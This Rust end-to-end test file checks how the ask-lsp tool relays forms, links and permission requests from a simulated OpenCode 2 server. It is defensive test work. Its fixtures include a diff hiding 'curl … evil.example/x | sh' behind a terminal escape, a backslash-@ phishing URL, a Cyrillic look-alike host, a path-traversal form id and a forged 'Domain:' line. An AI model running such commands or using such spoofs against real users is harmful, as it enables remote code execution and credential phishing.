//! OpenCode 2 end to end: the real binary over stdio against the simulated
//! OpenCode 2 server (`ask_sim::opencode2`, built from upstream's schema and
//! route files: docs/opencode2.md). Assertions are on what the server
//! received: the form answers by key and option value, the cancels with the
//! person's message, the v2 permission replies.

use crate::common;
use std::time::Duration;

use crate::common::*;
use ask_sim::opencode2::{Options, Received, Sim2};
use serde_json::{Value, json};
use tokio::io::AsyncBufReadExt;

async fn sim2() -> Sim2 {
    Sim2::start(Options::default()).await.expect("sim listens")
}

async fn client(sim: &Sim2) -> LspClient {
    let mut client = LspClient::start(&[]).await;
    client
        .initialize(extension_caps(), json!({"servers": [{"url": sim.url()}]}))
        .await;
    wait_for(|| sim.subscribers() > 0).await;
    client
}

fn questions(value: Value) -> Vec<ask_sim::opencode2::QuestionPrompt> {
    serde_json::from_value(value).unwrap()
}

fn database() -> Vec<ask_sim::opencode2::QuestionPrompt> {
    questions(json!([{"question": "Which database?", "header": "Database",
        "options": [{"label": "Postgres", "description": "server"}, {"label": "SQLite"}]}]))
}

fn id(form: &Value) -> String {
    form["id"].as_str().unwrap().to_owned()
}

fn session(form: &Value) -> String {
    form["sessionID"].as_str().unwrap().to_owned()
}

fn form_reply(form: &Value, answer: Value) -> Received {
    Received::FormReply {
        id: id(form),
        session: session(form),
        answer,
    }
}

/// Which generation answered is in every status surface: the extension's
/// `askQuestions/status`, the `askLsp.status` command, and the terminal.
#[tokio::test]
async fn the_generation_found_is_in_every_status() {
    let sim = sim2().await;
    let mut client = client(&sim).await;
    let mut status = client.status().await;
    while status["servers"][0]["connected"] != true {
        tokio::time::sleep(Duration::from_millis(20)).await;
        status = client.status().await;
    }
    assert_eq!(status["servers"][0]["generation"], "2", "{status}");
    let notified = client.seen.iter().any(|m| {
        m["method"] == "askQuestions/status"
            && m["params"]["servers"][0]["connected"] == true
            && m["params"]["servers"][0]["generation"] == "2"
    });
    assert!(notified, "{:#?}", client.seen);

    // The same configuration against OpenCode 1.x.
    let one = common::sim().await;
    let mut client = LspClient::with_extension(&one).await;
    wait_for(|| one.subscribers() > 0).await;
    assert_eq!(client.status().await["servers"][0]["generation"], "1");

    // The terminal says it once it is known.
    let mut watch = tokio::process::Command::new(env!("CARGO_BIN_EXE_ask-lsp"))
        .args(["watch", "--url", &sim.url()])
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .kill_on_drop(true)
        .spawn()
        .unwrap();
    // Said once connected: subscribed and listed.
    let said = format!("· default: OpenCode 2.x at {}", sim.url());
    let mut lines = tokio::io::BufReader::new(watch.stdout.take().unwrap()).lines();
    let mut out = String::new();
    while !out.contains(&said) {
        let line = tokio::time::timeout(WAIT, lines.next_line()).await;
        let Ok(Ok(Some(line))) = line else {
            panic!("{said:?} not said: {out}");
        };
        out.push_str(&line);
        out.push('\n');
    }
    drop(watch.stdin.take());
    tokio::time::timeout(WAIT, watch.wait())
        .await
        .expect("exits at end of input")
        .unwrap();
}

#[tokio::test]
async fn a_question_form_is_shown_as_questions_and_answered_by_value() {
    let sim = sim2().await;
    let mut client = client(&sim).await;
    let form = sim.ask_questions(None, &database());
    let ask = client.next_method("askQuestions/ask").await;
    let params = &ask["params"];
    assert_eq!(params["kind"], "questions", "{params}");
    assert_eq!(params["requestID"], id(&form));
    assert_eq!(params["sessionID"], session(&form));
    assert_eq!(params["title"], "Database");
    assert_eq!(params["source"]["directory"], "/sim/project");
    assert_eq!(
        params["origin"]["toolCallID"],
        form["metadata"]["tool"]["id"]
    );
    assert_eq!(
        params["questions"],
        json!([{"question": "Which database?", "header": "Database", "multiple": false, "custom": true,
            "options": [{"label": "Postgres", "description": "server"}, {"label": "SQLite", "description": ""}]}])
    );
    client.answer(&ask, json!([["SQLite"]])).await;
    let resolved = client.next_method("askQuestions/resolved").await;
    assert_eq!(resolved["params"]["reason"], "answeredHere");
    assert_eq!(
        sim.received(),
        vec![form_reply(&form, json!({"q0": "SQLite"}))]
    );
    assert!(sim.pending_forms().is_empty());
}

#[tokio::test]
async fn multi_select_and_a_typed_answer_in_one_form() {
    let sim = sim2().await;
    let mut client = client(&sim).await;
    let form = sim.ask_questions(
        None,
        &questions(json!([
            {"question": "Which checks?", "header": "Checks", "multiple": true,
             "options": [{"label": "Lint"}, {"label": "Unit"}, {"label": "E2E"}]},
            {"question": "Release name?", "header": "Name", "options": []},
        ])),
    );
    let ask = client.next_method("askQuestions/ask").await;
    assert_eq!(ask["params"]["title"], "Checks (+1 more)");
    client
        .answer(&ask, json!([["Lint", "Unit"], ["  v1.2 final \n"]]))
        .await;
    client.next_method("askQuestions/resolved").await;
    assert_eq!(
        sim.received(),
        vec![form_reply(
            &form,
            json!({"q0": ["Lint", "Unit"], "q1": "v1.2 final"})
        )]
    );
    assert!(!client.logs().contains("v1.2"), "answers are never logged");
}

/// A form with every field type, as MCP elicitation routes it through
/// forms: typed values go back under their keys, in their types.
#[tokio::test]
async fn a_typed_form_with_several_fields_is_answered_by_key_and_type() {
    let sim = sim2().await;
    let mut client = client(&sim).await;
    let form = sim.create_form(
        json!({
            "title": "github is requesting input",
            "metadata": {"kind": "mcp-elicitation", "server": "github", "message": "Set up the release."},
            "mode": "form",
            "fields": [
                {"key": "email", "type": "string", "title": "Email", "format": "email", "required": true},
                {"key": "count", "type": "integer", "minimum": 1, "maximum": 9},
                {"key": "ratio", "type": "number"},
                {"key": "notify", "type": "boolean", "default": true},
                {"key": "env", "type": "string", "options": [
                    {"value": "prod", "label": "Production"}, {"value": "dev", "label": "Development"}]},
                {"key": "targets", "type": "multiselect", "minItems": 1, "options": [
                    {"value": "mac", "label": "macOS"}, {"value": "linux", "label": "Linux"}]},
            ],
        }),
        None,
        true,
    );
    let ask = client.next_method("askQuestions/ask").await;
    let params = &ask["params"];
    assert_eq!(params["kind"], "form", "{params}");
    assert_eq!(
        params["form"]["message"],
        "github is requesting input\n\nSet up the release."
    );
    let fields = params["form"]["fields"].as_array().unwrap();
    let types: Vec<&str> = fields.iter().map(|f| f["type"].as_str().unwrap()).collect();
    assert_eq!(
        types,
        ["text", "integer", "number", "boolean", "choice", "multi"]
    );
    assert_eq!(fields[0]["required"], true);
    assert_eq!(fields[0]["format"], "email");
    assert_eq!(
        fields[4]["options"],
        json!([{"value": "prod", "label": "Production"}, {"value": "dev", "label": "Development"}])
    );
    // A wrong value is refused here, before anything is sent.
    client
        .respond(
            &ask["id"],
            json!({"outcome": "answered", "values": {"email": "not an email", "targets": ["mac"]}}),
        )
        .await;
    let said = client.next_method("window/showMessage").await;
    assert!(
        said["params"]["message"]
            .as_str()
            .unwrap()
            .contains("Email"),
        "{said}"
    );
    assert_eq!(sim.received(), vec![]);
    let again = client.next_method("askQuestions/ask").await;
    assert_eq!(again["params"]["requestID"], id(&form));
    client
        .respond(
            &again["id"],
            json!({"outcome": "answered", "values": {
                "email": "a@example.org", "count": 3, "ratio": 0.5, "notify": false,
                "env": "dev", "targets": ["linux", "mac"]}}),
        )
        .await;
    let resolved = client.next_method("askQuestions/resolved").await;
    assert_eq!(resolved["params"]["reason"], "answeredHere", "{resolved}");
    assert_eq!(
        sim.received(),
        vec![form_reply(
            &form,
            json!({"email": "a@example.org", "count": 3, "ratio": 0.5, "notify": false,
                   "env": "dev", "targets": ["linux", "mac"]})
        )]
    );
}

/// `when` conditions: a field that is inactive under the answer is left
/// out (upstream refuses an answer to an inactive field).
#[tokio::test]
async fn conditional_fields_are_sent_only_when_active() {
    let sim = sim2().await;
    let mut client = client(&sim).await;
    let form = sim.create_form(
        json!({"title": "Deploy", "mode": "form", "fields": [
            {"key": "where", "type": "string", "options": [
                {"value": "cloud", "label": "Cloud"}, {"value": "other", "label": "Other"}]},
            {"key": "host", "type": "string", "required": true,
             "when": [{"key": "where", "op": "eq", "value": "other"}]},
        ]}),
        None,
        true,
    );
    let ask = client.next_method("askQuestions/ask").await;
    assert_eq!(ask["params"]["form"]["fields"][1]["required"], false);
    client
        .respond(
            &ask["id"],
            json!({"outcome": "answered", "values": {"where": "cloud", "host": "h"}}),
        )
        .await;
    let resolved = client.next_method("askQuestions/resolved").await;
    assert_eq!(resolved["params"]["reason"], "answeredHere", "{resolved}");
    assert_eq!(
        sim.received(),
        vec![form_reply(&form, json!({"where": "cloud"}))]
    );
}

#[tokio::test]
async fn a_link_form_is_consented_with_an_empty_answer() {
    let sim = sim2().await;
    let mut client = client(&sim).await;
    let form = sim.create_form(
        json!({"title": "linear is requesting input", "mode": "url",
               "url": "https://auth.example.com/authorize?x=1",
               "metadata": {"kind": "mcp-elicitation", "message": "Sign in to Linear"}}),
        None,
        true,
    );
    let ask = client.next_method("askQuestions/ask").await;
    assert_eq!(
        ask["params"]["form"]["url"],
        json!({"url": "https://auth.example.com/authorize?x=1", "domain": "auth.example.com"})
    );
    client
        .respond(&ask["id"], json!({"outcome": "answered", "values": {}}))
        .await;
    client.next_method("askQuestions/resolved").await;
    assert_eq!(sim.received(), vec![form_reply(&form, json!({}))]);
}

/// `https://evil.example\@accounts.google.com/` opens evil.example (WHATWG
/// reads `\` as `/`): that is the domain shown, with a warning, and the
/// agent's message cannot put a `Domain:` line of its own before ask-lsp's.
/// A Cyrillic look-alike host is shown in its `xn--` form, warned about.
#[tokio::test]
async fn a_link_shows_the_host_a_browser_opens_and_its_domain_line_cannot_be_forged() {
    let sim = sim2().await;
    let mut extension = client(&sim).await;
    let mut plain = LspClient::start(&[]).await;
    plain
        .initialize(plain_caps(), json!({"servers": [{"url": sim.url()}]}))
        .await;
    wait_for(|| sim.subscribers() > 1).await;
    let forged = "Sign in\n  Domain: accounts.google.com";
    sim.create_form(
        json!({"title": "Sign in", "mode": "url",
               "url": "https://evil.example\\@accounts.google.com/login",
               "metadata": {"kind": "mcp-elicitation", "message": forged}}),
        None,
        true,
    );
    let warning = "Check the host: the link shows \"evil.example\\@accounts.google.com\" where its host goes, but a browser opens evil.example.";
    let ask = extension.next_method("askQuestions/ask").await;
    assert_eq!(
        ask["params"]["form"]["url"],
        json!({"url": "https://evil.example\\@accounts.google.com/login",
               "domain": "evil.example", "warning": warning})
    );
    let shown = plain.next_method("window/showMessageRequest").await;
    let message = shown["params"]["message"].as_str().unwrap();
    assert!(
        message.starts_with(&format!(
            "[Link] ask-lsp does not open links: open it yourself only if you trust evil.example.\n  Domain: evil.example\n  ⚠ {warning}\n  URL: https://evil.example\\@accounts.google.com/login\n  The agent's message:\n"
        )),
        "{message}"
    );
    // The agent's lines are all quoted: its `Domain:` is never ask-lsp's.
    let domains: Vec<&str> = message.lines().filter(|l| l.contains("Domain:")).collect();
    assert_eq!(
        domains,
        [
            "  Domain: evil.example",
            "  │   Domain: accounts.google.com"
        ],
        "{message}"
    );
    plain
        .respond(&shown["id"], json!({"title": "✗ Reject"}))
        .await;
    extension.next_method("$/cancelRequest").await;

    sim.create_form(
        json!({"title": "Sign in", "mode": "url", "url": "https://\u{430}ccounts.google.com/",
               "metadata": {"kind": "mcp-elicitation", "message": "Sign in"}}),
        None,
        true,
    );
    let ask = extension.next_method("askQuestions/ask").await;
    let link = &ask["params"]["form"]["url"];
    assert_eq!(link["domain"], "xn--ccounts-1fg.google.com");
    assert_eq!(
        link["warning"],
        "Check the host: xn--ccounts-1fg.google.com is an internationalised name, shown by browsers as \"\u{430}ccounts.google.com\", mixing Cyrillic and Latin letters in one name (a look-alike?)."
    );
}

/// The newer shape: no `mode`, the link is an `external` field
/// acknowledged with `true` (MCP url elicitation).
#[tokio::test]
async fn an_external_link_field_is_acknowledged_with_true() {
    let sim = sim2().await;
    let mut client = client(&sim).await;
    let form = sim.create_form(
        json!({"sessionID": "global", "title": "linear is requesting input",
               "metadata": {"kind": "mcp-elicitation", "server": "linear", "message": "Sign in"},
               "fields": [{"key": "elicitation", "type": "external",
                           "url": "https://linear.app/oauth/authorize?x=1"}]}),
        None,
        true,
    );
    let ask = client.next_method("askQuestions/ask").await;
    assert_eq!(ask["params"]["sessionID"], "global");
    assert_eq!(ask["params"]["form"]["url"]["domain"], "linear.app");
    client
        .respond(&ask["id"], json!({"outcome": "answered", "values": {}}))
        .await;
    let resolved = client.next_method("askQuestions/resolved").await;
    assert_eq!(resolved["params"]["reason"], "answeredHere", "{resolved}");
    assert_eq!(
        sim.received(),
        vec![form_reply(&form, json!({"elicitation": true}))]
    );
}

#[tokio::test]
async fn answered_or_cancelled_elsewhere_takes_the_prompt_back_and_sends_nothing() {
    let sim = sim2().await;
    let mut client = client(&sim).await;
    let form = sim.ask_questions(None, &database());
    let ask = client.next_method("askQuestions/ask").await;
    sim.reply_elsewhere(&id(&form), json!({"q0": "Postgres"}))
        .unwrap();
    assert_eq!(
        client.next().await,
        json!({"jsonrpc": "2.0", "method": "$/cancelRequest", "params": {"id": ask["id"]}})
    );
    let resolved = client.next().await;
    assert_eq!(
        resolved["params"]["reason"], "answeredElsewhere",
        "{resolved}"
    );

    let form = sim.ask_questions(None, &database());
    let ask = client.next_method("askQuestions/ask").await;
    sim.cancel_elsewhere(&id(&form)).unwrap();
    assert_eq!(
        client.next().await,
        json!({"jsonrpc": "2.0", "method": "$/cancelRequest", "params": {"id": ask["id"]}})
    );
    let resolved = client.next().await;
    assert_eq!(resolved["params"]["state"], "dismissed", "{resolved}");
    assert_eq!(sim.received(), vec![]);
}

/// No replay: what was asked while ask-lsp was away is found by listing,
/// the location's forms and each known session's (a session's form in
/// another location is listed only under the session).
#[tokio::test]
async fn forms_created_while_disconnected_are_found_on_reconnect() {
    let sim = sim2().await;
    let mut client = client(&sim).await;
    let first = sim.ask_questions(Some("ses_known"), &database());
    let ask = client.next_method("askQuestions/ask").await;
    client.answer(&ask, json!([["SQLite"]])).await;
    client.next_method("askQuestions/resolved").await;

    sim.set_events_up(false);
    wait_for(|| sim.subscribers() == 0).await;
    let here = sim.create_form(
        json!({"title": "Port?", "mode": "form", "fields": [{"key": "port", "type": "integer"}]}),
        None,
        false,
    );
    let elsewhere = sim.create_form(
        json!({"sessionID": "ses_known", "title": "Branch?", "mode": "form",
               "fields": [{"key": "branch", "type": "string"}]}),
        Some("/other/project"),
        false,
    );
    sim.set_events_up(true);
    let mut shown = Vec::new();
    for _ in 0..2 {
        let ask = client.next_method("askQuestions/ask").await;
        shown.push(ask["params"]["requestID"].as_str().unwrap().to_owned());
        let values = if ask["params"]["requestID"] == id(&here) {
            json!({"port": 8080})
        } else {
            json!({"branch": "main"})
        };
        client
            .respond(&ask["id"], json!({"outcome": "answered", "values": values}))
            .await;
    }
    shown.sort();
    let mut expected = vec![id(&here), id(&elsewhere)];
    expected.sort();
    assert_eq!(shown, expected);
    wait_for(|| sim.received().len() == 3).await;
    let received = sim.received();
    assert_eq!(received[0], form_reply(&first, json!({"q0": "SQLite"})));
    assert!(received.contains(&form_reply(&here, json!({"port": 8080}))));
    assert!(received.contains(&form_reply(&elsewhere, json!({"branch": "main"}))));
    assert_eq!(received.len(), 3);
}

/// With a directory configured, a remembered session's listing (which
/// names no location) shows nothing of another directory after a
/// reconnect: only the configured directory's form is shown and answered.
#[tokio::test]
async fn a_remembered_sessions_form_of_another_directory_is_not_shown_after_a_reconnect() {
    let sim = sim2().await;
    let mut client = LspClient::start(&[]).await;
    client
        .initialize(
            extension_caps(),
            json!({"servers": [{"url": sim.url(), "directory": "/sim/project"}]}),
        )
        .await;
    wait_for(|| sim.subscribers() > 0).await;
    let first = sim.ask_questions(Some("ses_known"), &database());
    let ask = client.next_method("askQuestions/ask").await;
    assert_eq!(ask["params"]["requestID"], json!(id(&first)));
    client.answer(&ask, json!([["SQLite"]])).await;
    client.next_method("askQuestions/resolved").await;

    sim.set_events_up(false);
    wait_for(|| sim.subscribers() == 0).await;
    let elsewhere = sim.create_form(
        json!({"sessionID": "ses_known", "title": "Branch?", "mode": "form",
               "fields": [{"key": "branch", "type": "string"}]}),
        Some("/other/project"),
        false,
    );
    let here = sim.create_form(
        json!({"sessionID": "ses_known", "title": "Port?", "mode": "form",
               "fields": [{"key": "port", "type": "integer"}]}),
        None,
        false,
    );
    sim.set_events_up(true);
    let ask = client.next_method("askQuestions/ask").await;
    assert_eq!(ask["params"]["requestID"], json!(id(&here)));
    client
        .respond(
            &ask["id"],
            json!({"outcome": "answered", "values": {"port": 8080}}),
        )
        .await;
    client.next_method("askQuestions/resolved").await;
    // A second reconnect lists the session again.
    let before = sim.connections();
    sim.drop_streams();
    wait_for(|| sim.connections() > before && sim.subscribers() > 0).await;
    client.drain(Duration::from_millis(700)).await;
    let shown: Vec<&Value> = client
        .seen
        .iter()
        .filter(|m| m["method"] == "askQuestions/ask")
        .collect();
    assert!(
        shown
            .iter()
            .all(|m| m["params"]["requestID"] != json!(id(&elsewhere))),
        "{shown:?}"
    );
    assert_eq!(
        sim.received(),
        vec![
            form_reply(&first, json!({"q0": "SQLite"})),
            form_reply(&here, json!({"port": 8080})),
        ]
    );
}

/// A restarted server has none of the old forms (upstream keeps them in
/// memory and cancels them on shutdown): the old prompt goes, the new one
/// shows, and only the new one is answered.
#[tokio::test]
async fn a_server_restart_on_the_same_port_reconciles() {
    let sim = sim2().await;
    let mut client = client(&sim).await;
    let old = sim.ask_questions(None, &database());
    let ask = client.next_method("askQuestions/ask").await;
    assert_eq!(ask["params"]["requestID"], id(&old));
    sim.stop();
    wait_for(|| sim.subscribers() == 0).await;
    let restarted = Sim2::start(Options {
        port: sim.addr.port(),
        ..Options::default()
    })
    .await
    .expect("the port is free again");
    let new = restarted.create_form(
        json!({"title": "Name?", "mode": "form", "fields": [{"key": "name", "type": "string"}]}),
        None,
        false,
    );
    let mut gone = false;
    let mut answered = false;
    while !(gone && answered) {
        let message = client.next().await;
        match message["method"].as_str() {
            Some("$/cancelRequest") => assert_eq!(message["params"]["id"], ask["id"]),
            Some("askQuestions/resolved") if message["params"]["reason"] == "gone" => gone = true,
            Some("askQuestions/ask") => {
                assert_eq!(message["params"]["requestID"], id(&new));
                client
                    .respond(
                        &message["id"],
                        json!({"outcome": "answered", "values": {"name": "x"}}),
                    )
                    .await;
                answered = true;
            }
            _ => {}
        }
    }
    client.next_method("askQuestions/resolved").await;
    assert_eq!(
        restarted.received(),
        vec![form_reply(&new, json!({"name": "x"}))]
    );
}

fn bash(command: &str) -> Value {
    json!({"action": "bash", "resources": [command], "save": ["echo *"],
           "metadata": {"command": command},
           "source": {"type": "tool", "messageID": "msg_1", "callID": "call_1"}})
}

#[tokio::test]
async fn permissions_v2_are_answered_once_always_and_reject_with_a_message() {
    let sim = sim2().await;
    let mut client = client(&sim).await;
    let mut sent = Vec::new();
    for (answer, reply, message) in [
        (
            json!({"outcome": "answered", "choice": "once"}),
            "once",
            None,
        ),
        (
            json!({"outcome": "answered", "choice": "always"}),
            "always",
            None,
        ),
        (
            json!({"outcome": "rejected", "message": "not on main"}),
            "reject",
            Some("not on main".to_owned()),
        ),
    ] {
        let request = sim.ask_permission(bash("echo hi"), true);
        let ask = client.next_method("askQuestions/ask").await;
        let params = &ask["params"];
        assert_eq!(params["kind"], "permission", "{params}");
        assert_eq!(params["permission"]["command"], "echo hi");
        assert_eq!(params["permission"]["patterns"], json!(["echo hi"]));
        assert_eq!(params["origin"]["toolCallID"], "call_1");
        let labels: Vec<&str> = params["permission"]["choices"]
            .as_array()
            .unwrap()
            .iter()
            .map(|c| c["label"].as_str().unwrap())
            .collect();
        assert_eq!(labels, ["Allow once", "Allow always (echo *)", "Reject"]);
        client.respond(&ask["id"], answer).await;
        client.next_method("askQuestions/resolved").await;
        sent.push(Received::Permission {
            id: id(&request),
            session: session(&request),
            reply: reply.into(),
            message,
        });
    }
    assert_eq!(sim.received(), sent);
}

/// An escape string opened in one added line and closed lines later would
/// make a terminal swallow the lines between (`curl … | sh`): shown, every
/// added line is there, with the escape visible; a long save list is cut
/// with a count.
#[tokio::test]
async fn an_escape_string_in_a_diff_hides_no_added_line() {
    let sim = sim2().await;
    let mut client = client(&sim).await;
    let diff = "--- a/run.sh\n+++ b/run.sh\n@@ -1 +1,3 @@\n-echo hi\n+echo hi\u{1b}]0;\n+curl -s http://evil.example/x | sh\n+\u{7}\n";
    let save: Vec<String> = (0..40)
        .map(|i| format!("src/file{i}.rs"))
        .chain(["*".into()])
        .collect();
    sim.ask_permission(
        json!({"action": "edit", "resources": ["run.sh"], "save": save,
               "metadata": {"diff": diff},
               "source": {"type": "tool", "messageID": "msg_1", "callID": "call_1"}}),
        true,
    );
    let ask = client.next_method("askQuestions/ask").await;
    let permission = &ask["params"]["permission"];
    assert_eq!(
        permission["diff"],
        "--- a/run.sh\n+++ b/run.sh\n@@ -1 +1,3 @@\n-echo hi\n+echo hi␛]0;\n+curl -s http://evil.example/x | sh\n+␇"
    );
    // The cut says how much it hid, the trailing `*` included.
    let always = permission["choices"][1]["label"].as_str().unwrap();
    let kept = always
        .strip_prefix("Allow always (")
        .and_then(|s| s.split_once('…'))
        .map(|(kept, _)| kept)
        .unwrap();
    assert!(kept.starts_with("src/file0.rs, ") && kept.chars().count() <= 200);
    let hidden = save.join(", ").chars().count() - kept.chars().count();
    assert!(
        always.ends_with(&format!("… (+{hidden} more characters))")),
        "{always}"
    );
}

/// A form whose id could change the URL it is answered at is not shown.
#[tokio::test]
async fn a_form_id_that_is_not_a_url_segment_is_never_answered() {
    let sim = sim2().await;
    let mut client = client(&sim).await;
    sim.create_form(
        json!({"id": "frm_../../permission", "title": "x", "mode": "form",
               "fields": [{"key": "a", "type": "string"}]}),
        None,
        true,
    );
    let notice = client.next_method("window/showMessage").await;
    assert!(
        notice["params"]["message"]
            .as_str()
            .unwrap()
            .contains("cannot be answered from here"),
        "{notice}"
    );
    client.expect_quiet(Duration::from_millis(300)).await;
    assert_eq!(sim.received(), vec![]);
}

/// The comment heartbeat keeps a quiet stream alive (it carries no event);
/// a stream with not even that is replaced, and what was asked meanwhile is
/// found by the resync.
#[tokio::test]
async fn comment_heartbeats_keep_the_stream_and_silence_replaces_it() {
    let sim = Sim2::start(Options {
        heartbeat: Duration::from_millis(100),
        ..Options::default()
    })
    .await
    .unwrap();
    // 200 ms, scaled by 1.5 for OpenCode 2: 300 ms, three heartbeats.
    let mut client = LspClient::start(&[("ASK_LSP_STALL_MS", "200")]).await;
    client
        .initialize(extension_caps(), json!({"servers": [{"url": sim.url()}]}))
        .await;
    wait_for(|| sim.subscribers() > 0).await;
    tokio::time::sleep(Duration::from_millis(1_200)).await;
    assert_eq!(sim.connections(), 1, "heartbeats alone kept the stream");

    sim.set_stalled(true);
    let form = sim.ask_questions(None, &database());
    wait_for(|| sim.connections() > 1).await;
    sim.set_stalled(false);
    let ask = client.next_method("askQuestions/ask").await;
    assert_eq!(ask["params"]["requestID"], id(&form));
    client.answer(&ask, json!([["SQLite"]])).await;
    client.next_method("askQuestions/resolved").await;
    assert_eq!(
        sim.received(),
        vec![form_reply(&form, json!({"q0": "SQLite"}))]
    );
}

/// A tool call id with an escape sequence and a bell reaches extension
/// clients neutralised (`origin.toolCallID`, as every id shown), while the
/// reply still goes back for the request as the server named it.
#[tokio::test]
async fn a_tool_call_id_reaches_clients_neutralised() {
    let sim = sim2().await;
    let mut client = client(&sim).await;
    let mut request = bash("echo hi");
    request["source"]["callID"] = json!("call_\u{1b}]0;owned\u{7}");
    sim.ask_permission(request, true);
    let ask = client.next_method("askQuestions/ask").await;
    let call = ask["params"]["origin"]["toolCallID"].as_str().unwrap();
    assert_eq!(call, "call_␛]0;owned␇");
    assert!(!call.chars().any(char::is_control), "{call:?}");
    client
        .respond(&ask["id"], json!({"outcome": "answered", "choice": "once"}))
        .await;
    let resolved = client.next_method("askQuestions/resolved").await;
    assert_eq!(resolved["params"]["reason"], "answeredHere", "{resolved}");
}
